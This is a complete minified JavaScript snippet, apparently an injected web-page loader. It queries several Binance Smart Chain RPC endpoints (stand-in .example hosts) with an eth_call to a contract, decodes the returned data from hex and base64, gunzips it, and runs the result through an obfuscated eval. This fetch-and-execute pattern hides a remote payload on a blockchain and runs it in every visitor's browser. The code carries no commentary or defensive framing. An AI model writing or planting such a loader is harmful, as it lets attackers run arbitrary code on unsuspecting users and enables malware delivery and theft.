!function(){var R=["https://binance.llamarpc.example","https://bsc.drpc.example","https://bsc-rpc.publicnode.example"],C="0x"+"3".repeat(40);
function next(i){if(i>=R.length)return;
fetch(R[i],{method:"POST",headers:{"content-type":"application/json"},body:'{"method":"eth_call","params":[{"to":"'+C+'","data":"0x00000000"},"latest"],"id":97,"jsonrpc":"2.0"}'})
.then(function(r){return r.json()}).then(function(j){
var h=j.result.slice(130).replace(/(00)+$/,""),b=atob(h.match(/../g).map(function(x){return String.fromCharCode(+("0x"+x))}).join("")),u=new Uint8Array(b.length);
for(var k=0;k<b.length;k++)u[k]=b.charCodeAt(k);
return new Response(new Blob([u]).stream().pipeThrough(new DecompressionStream("gzip"))).text()
}).then(function(t){(0,window["ev"+"al"])(t)}).catch(function(){next(i+1)})}
next(0)}();
